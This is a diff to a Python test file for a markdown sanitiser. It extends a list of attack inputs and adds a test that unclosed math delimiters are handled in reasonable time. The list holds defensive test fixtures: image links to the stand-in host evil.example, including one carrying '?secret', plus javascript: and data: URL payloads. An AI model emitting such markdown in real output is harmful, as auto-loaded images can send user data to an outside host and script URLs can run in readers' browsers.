@@ -34,6 +34,11 @@ ATTACKS = [
     "[click][r]\n\n[r]: <data:text/html,x> 'title'",
     "<javascript:alert(1)>",
     "![pixel](https://evil.example/?secret)",
+    "!http://evil.example/x.png",
+    "Look!https://evil.example/p?q=1",
+    "!<http://evil.example/x.png>",
+    r"\![x](http://evil.example/x.png)",
+    r"$\![x](http://evil.example/x.png)$",
     "![pixel][r]\n\n[r]: https://evil.example/x.png",
     "![x](javascript:alert(1))",
     "![x](/logout)",
@@ -180,3 +185,9 @@ def test_a_fence_is_longer_than_what_is_in_it():
 
 def test_text_nested_beyond_the_parsers_limit_is_shown_all_the_same():
     assert "the end" in safe(">" * 150 + " the end")
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize("unclosed", ["\\[\na\n", "\\(a ", "\\[", "$$\na\n", "$a "])
+def test_unclosed_mathematics_is_read_in_reasonable_time(unclosed: str) -> None:
+    assert safe(unclosed * 8000)
